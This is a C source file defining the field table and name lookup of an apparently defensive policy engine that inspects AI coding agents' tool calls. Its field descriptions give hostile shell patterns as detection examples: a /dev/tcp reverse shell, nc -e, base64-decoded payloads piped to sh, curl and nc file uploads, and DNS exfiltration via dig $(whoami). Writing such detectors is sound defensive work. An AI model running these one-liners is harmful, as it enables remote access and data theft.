#include "fields.h"

#include <string.h>

#define S   PE_FT_STRING
#define U   PE_FT_U64
#define B   PE_FT_BOOL
#define L   PE_FT_LIST
#define NO  PE_ARG_NONE
#define OPT PE_ARG_OPTIONAL
#define REQ PE_ARG_REQUIRED

static const pe_field_def table[PE_F_COUNT] = {
    [PE_F_CORRELATION_ID] = {"correlation.id", U, NO,
                             "Unique non-zero id of the tool call, shared by every match", 0},
    [PE_F_AGENT_NAME] = {"agent.name", S, NO, "claude_code, codex, copilot, gemini or cursor", 0},
    [PE_F_AGENT_OS] = {"agent.os", S, NO, "linux, macos, windows or unknown (build target)", 0},
    [PE_F_AGENT_PID] = {"agent.pid", U, NO, "Agent process id given by the caller; 0 if unknown",
                        0},
    [PE_F_AGENT_HOOK_EVENT_NAME] = {"agent.hook_event_name", S, NO,
                                    "Hook event as the agent spells it, e.g. PreToolUse", 0},
    [PE_F_AGENT_SESSION_ID] = {"agent.session_id", S, NO, "Session (conversation) id", 0},
    [PE_F_AGENT_PERMISSION_MODE] = {"agent.permission_mode", S, NO,
                                    "Permission mode, e.g. default, acceptEdits, plan", 0},
    [PE_F_AGENT_TRANSCRIPT_PATH] = {"agent.transcript_path", S, NO, "Transcript file path", 0},
    [PE_F_AGENT_MODEL] = {"agent.model", S, NO, "Model name, where the agent sends one", 0},
    [PE_F_AGENT_TURN_ID] = {"agent.turn_id", S, NO, "Turn or generation id", 0},
    [PE_F_AGENT_CWD] = {"agent.cwd", S, NO, "Session working directory, as sent", 0},
    [PE_F_AGENT_REAL_CWD] = {"agent.real_cwd", S, NO,
                             "agent.cwd resolved through symlinks (canonical)", 0},
    [PE_F_AGENT_REAL_CWD_PREFIX] = {"agent.real_cwd_prefix", S, NO,
                                    "agent.real_cwd with exactly one trailing slash", 0},
    [PE_F_TOOL_USE_ID] = {"tool.use_id", S, NO, "Tool call id, where the agent sends one", 0},
    [PE_F_TOOL_NAME] = {"tool.name", S, NO, "Tool name as the agent sends it", 0},
    [PE_F_TOOL_INPUT] = {"tool.input", S, OPT,
                         "Tool input as compact JSON; tool.input[key] or "
                         "tool.input[/json/pointer] selects one value",
                         0},
    [PE_F_TOOL_INPUT_COMMAND] = {"tool.input_command", S, NO, "Shell command of a shell tool", 0},
    [PE_F_TOOL_FILE_PATH] = {"tool.file_path", S, NO, "Target path of a file tool, as sent", 0},
    [PE_F_TOOL_FILE_NAME] = {"tool.file_name", S, NO,
                             "Last component of tool.file_path (before symlinks)", 0},
    [PE_F_TOOL_REAL_FILE_PATH] = {"tool.real_file_path", S, NO,
                                  "tool.file_path made absolute and resolved", 0},
    [PE_F_TOOL_PATCH_OP] = {"tool.patch_op", S, NO,
                            "Add, Update, Delete or Move for one file of a patch", 0},
    [PE_F_AGENT_DIALECT] = {"agent.dialect", S, NO,
                            "Payload dialect, e.g. copilot_camel or copilot_vscode", 0},
    [PE_F_AGENT_ID] = {"agent.id", S, NO, "Subagent id, inside a subagent", 0},
    [PE_F_AGENT_TYPE] = {"agent.type", S, NO, "Subagent type, inside a subagent", 0},
    [PE_F_TOOL_KIND] = {"tool.kind", S, NO,
                        "shell, read, write, edit, patch, search, web, mcp, agent or other", 0},
    [PE_F_TOOL_INPUT_TEXT] = {"tool.input_text", S, NO,
                              "Every key and scalar value of the tool input, decoded, "
                              "joined with newlines",
                              1},
    [PE_F_TOOL_INPUT_KEYS] = {"tool.input_keys", L, NO,
                              "Names of the tool input's top-level members", 1},
    [PE_F_TOOL_INPUT_SECRETS] = {"tool.input_secrets", L, NO,
                                 "Kinds of secret in the tool input (github_token, "
                                 "private_key, password_assignment, ...)",
                                 1},
    [PE_F_TOOL_COMMAND_CWD] = {"tool.command_cwd", S, NO,
                               "Working directory a shell tool asks for, as sent", 0},
    [PE_F_TOOL_REAL_COMMAND_CWD] = {"tool.real_command_cwd", S, NO,
                                    "tool.command_cwd made absolute and resolved", 0},
    [PE_F_TOOL_URL] = {"tool.url", S, NO, "URL of a web fetch", 0},
    [PE_F_TOOL_URL_HOST] = {"tool.url_host", S, NO, "Host of tool.url, lower case", 0},
    [PE_F_TOOL_QUERY] = {"tool.query", S, NO, "Search query or search pattern", 0},
    [PE_F_TOOL_PROMPT] = {"tool.prompt", S, NO, "Prompt of a subagent or web fetch", 0},
    [PE_F_TOOL_SUBAGENT_TYPE] = {"tool.subagent_type", S, NO, "Type of subagent requested", 0},
    [PE_F_TOOL_SANDBOX_ESCAPE] = {"tool.sandbox_escape", B, NO,
                                  "The call asks to run outside the agent's sandbox", 0},
    [PE_F_TOOL_BACKGROUND] = {"tool.background", B, NO, "The command runs in the background", 0},
    [PE_F_MCP_SERVER] = {"mcp.server", S, NO, "MCP server name", 0},
    [PE_F_MCP_TOOL] = {"mcp.tool", S, NO, "MCP tool name on its server", 0},
    [PE_F_MCP_ENDPOINT] = {"mcp.endpoint", S, NO,
                           "How the MCP server is reached: its URL or command, where the "
                           "agent says",
                           0},
    [PE_F_AGENT_VERSION] = {"agent.version", S, NO, "Agent version, where the agent sends one", 0},
    [PE_F_AGENT_WORKSPACE_ROOTS] = {"agent.workspace_roots", L, NO,
                                    "Workspace root directories (Cursor)", 0},
    [PE_F_AGENT_HOME] = {"agent.home", S, NO,
                         "The home directory used for ~ and $HOME (the home option, else $HOME)",
                         0},
    [PE_F_TOOL_NEW_TEXT] = {"tool.new_text", S, NO,
                            "Text a write, edit or patch puts into the file", 1},
    [PE_F_TOOL_NEW_TEXT_HOSTS] = {"tool.new_text_hosts", L, NO,
                                  "Hosts of the URLs in tool.new_text, normalised", 1},
    [PE_F_MCP_ACTS_AS] = {"mcp.acts_as", S, NO,
                          "What an MCP tool does, from its name: shell, read, write, edit, "
                          "search or web",
                          0},
    [PE_F_SHELL_COMMANDS] = {"shell.commands", L, NO,
                             "Base names of every command the shell command runs, wrappers "
                             "stripped, nested scripts and substitutions included",
                             1},
    [PE_F_SHELL_WRAPPERS] = {"shell.wrappers", L, NO,
                             "Wrappers stripped from the commands (sudo, env, timeout, ...)", 1},
    [PE_F_SHELL_NORMALIZED] = {"shell.normalized", S, NO,
                               "One line per command: its argv with quotes removed and single "
                               "spaces, then its redirections",
                               1},
    [PE_F_SHELL_REDIRECT_TARGETS] = {"shell.redirect_targets", L, NO,
                                     "Files the command redirects from or to", 1},
    [PE_F_SHELL_WRITE_TARGETS] = {"shell.write_targets", L, NO,
                                  "Files the command writes through redirections", 1},
    [PE_F_SHELL_PIPE_TO_INTERPRETER] = {"shell.pipe_to_interpreter", B, NO,
                                        "A shell or interpreter runs another command's output "
                                        "(x | sh, sh <(x), eval \"$(x)\")",
                                        1},
    [PE_F_SHELL_DYNAMIC] = {"shell.dynamic", B, NO,
                            "What runs cannot be judged without running it ($CMD, $(..) as a "
                            "command name, eval of an expansion, a limit reached)",
                            1},
    [PE_F_SHELL_PARSE_ERROR] = {"shell.parse_error", B, NO,
                                "The command is not valid shell (unterminated quote, ...)", 1},
    [PE_F_SHELL_LIMIT] = {"shell.limit", B, NO,
                          "The analysis stopped at a size, depth or work limit", 1},
    [PE_F_SHELL_COMMAND_COUNT] = {"shell.command_count", U, NO, "Number of simple commands run", 1},
    [PE_F_SHELL_FLAGS] = {"shell.flags", L, REQ,
                          "shell.flags[rm]: the flags given to every run of a command, "
                          "normalised (-rf gives -r and -f)",
                          1},
    [PE_F_SHELL_INVOKES] = {"shell.invokes", B, REQ,
                            "shell.invokes[rm -r -f]: one run of the command has all those "
                            "flags, in any spelling",
                            1},
    [PE_F_SHELL_PATHS] = {"shell.paths", L, NO,
                          "Every file the command line uses (reads, writes, deletes, runs, "
                          "sends, lists), resolved like tool.real_file_path",
                          0},
    [PE_F_SHELL_READ_PATHS] = {"shell.read_paths", L, NO,
                               "Files whose content the command line reads (cat, cp's sources, "
                               "< f, grep's files, tar -c's), resolved",
                               0},
    [PE_F_SHELL_WRITE_PATHS] = {"shell.write_paths", L, NO,
                                "Files the command line writes or changes (> f, tee, cp's "
                                "target, chmod, sed -i), resolved",
                                0},
    [PE_F_SHELL_DELETE_PATHS] = {"shell.delete_paths", L, NO,
                                 "Files the command line deletes (rm, rmdir, shred -u, find "
                                 "-delete, mv's sources, git clean), resolved",
                                 0},
    [PE_F_SHELL_EXEC_PATHS] = {"shell.exec_paths", L, NO,
                               "Files the command line runs as programs or scripts (bash f, "
                               "source f, ./f, BASH_ENV=f), resolved",
                               0},
    [PE_F_SHELL_UPLOAD_PATHS] = {"shell.upload_paths", L, NO,
                                 "Files the command line sends over the network (curl -T f, -d "
                                 "@f, scp f host:, nc h p < f), resolved",
                                 0},
    [PE_F_SHELL_LISTED_PATHS] = {"shell.listed_paths", L, NO,
                                 "Files or directories only listed (ls, stat, find), resolved", 0},
    [PE_F_SHELL_OUTSIDE_PATHS] =
        {"shell.outside_paths", L, OPT,
         "Paths the command line uses outside the project (agent.real_cwd) "
         "and the temporary directories; with an argument, only those of "
         "one role: shell.outside_paths[delete] (read, write, delete, exec, "
         "upload, list)",
         1},
    [PE_F_SHELL_UNKNOWN_PATHS] = {"shell.unknown_paths", B, NO,
                                  "Some path, or the directory after a cd, holds a value not "
                                  "known without running the command",
                                  0},
    [PE_F_SHELL_SUBCOMMANDS] = {"shell.subcommands", L, NO,
                                "Subcommands run, global options skipped: \"git reset\", "
                                "\"npm publish\", \"docker run\", \"git stash drop\"",
                                1},
    [PE_F_SHELL_URLS] = {"shell.urls", L, NO, "URLs and host words network commands are given", 1},
    [PE_F_SHELL_HOSTS] = {"shell.hosts", L, NO,
                          "Hosts the command line connects to, normalised (lower case, IPv4 "
                          "in any spelling as a dotted quad, IPv6 in RFC 5952 form)",
                          1},
    [PE_F_SHELL_ENV] = {"shell.env", L, NO,
                        "Variables given to commands or exported, as NAME=value", 1},
    [PE_F_SHELL_LANGUAGES] = {"shell.languages", L, NO,
                              "Languages of inline interpreter code (python -c, node -e, ...)", 1},
    [PE_F_SHELL_DECODED] = {"shell.decoded", L, NO,
                            "Decoded payloads that reach an interpreter (echo ... | base64 -d "
                            "| sh)",
                            1},
    [PE_F_SHELL_REVERSE_SHELL] = {"shell.reverse_shell", B, NO,
                                  "A shell's input and output go to a network peer (bash -i >& "
                                  "/dev/tcp/h/p 0>&1, nc -e, socat exec:)",
                                  1},
    [PE_F_SHELL_LISTENS] = {"shell.listens", B, NO,
                            "Something listens for connections or tunnels in (nc -l, socat "
                            "TCP-LISTEN, ssh -R / -D)",
                            1},
    [PE_F_SHELL_UPLOADS] = {"shell.uploads", B, NO,
                            "Files or output are sent to a host (curl -d @f, -T, scp to a "
                            "remote, nc host < f, > /dev/tcp/...)",
                            1},
    [PE_F_SHELL_DNS_EXFIL] = {"shell.dns_exfil", B, NO,
                              "A host name is made by a command substitution (dig "
                              "$(whoami).x.example)",
                              1},
    [PE_F_SHELL_REMOTE] = {"shell.remote", B, NO,
                           "Commands run on another host or in a container (ssh host cmd, "
                           "docker exec)",
                           1},
    [PE_F_SHELL_RUNS_DOWNLOAD] = {"shell.runs_download", B, NO,
                                  "A file the command line downloaded is then run (curl -o x.sh "
                                  "...; sh x.sh)",
                                  1},
    [PE_F_SHELL_PACKAGES] = {"shell.packages", L, NO,
                             "Packages the command line installs or runs from a registry, as "
                             "ecosystem:name (pypi:requests, npm:@types/node, crates:serde, "
                             "rubygems:rails)",
                             1},
    [PE_F_SHELL_PACKAGE_LOOKALIKES] = {"shell.package_lookalikes", L, NO,
                                       "Packages of shell.packages whose names imitate popular "
                                       "ones: \"reqeusts (pypi; looks like requests)\"",
                                       1},
    [PE_F_EVT_SOURCE] = {"evt.source", S, NO, "Always coding_agent", 0},
    [PE_F_EVT_TIME] = {"evt.time", U, NO, "When the event was built, ns since the epoch", 0},
    [PE_F_EVT_TIME_S] = {"evt.time.s", U, NO, "When the event was built, s since the epoch", 0},
    [PE_F_EVT_TIME_ISO8601] = {"evt.time.iso8601", S, NO, "When the event was built, UTC", 0},
    [PE_F_EVT_HOSTNAME] = {"evt.hostname", S, NO, "Host name", 0},
};

const pe_field_def *pe_field(pe_field_id id)
{
    return (unsigned)id < PE_F_COUNT ? &table[id] : NULL;
}

/* Length of name when it is a prefix of text[0..len), else 0 (names are
 * never empty). One pass that stops at the first difference: lookups run
 * for every field reference of every rule loaded. */
static size_t prefix_len(const char *name, const char *text, size_t len)
{
    size_t j = 0;
    while (name[j] && j < len && name[j] == text[j])
        j++;
    return name[j] ? 0 : j;
}

int pe_field_lookup(const char *name, size_t len)
{
    for (int i = 0; i < PE_F_COUNT; i++)
        if (len && table[i].name[0] == name[0] && prefix_len(table[i].name, name, len) == len)
            return i;
    return -1;
}

size_t pe_field_longest_prefix(const char *text, size_t len, int *id)
{
    size_t best = 0;
    for (int i = 0; i < PE_F_COUNT; i++) {
        size_t n = prefix_len(table[i].name, text, len);
        if (n > best) {
            best = n;
            if (id)
                *id = i;
        }
    }
    return best;
}
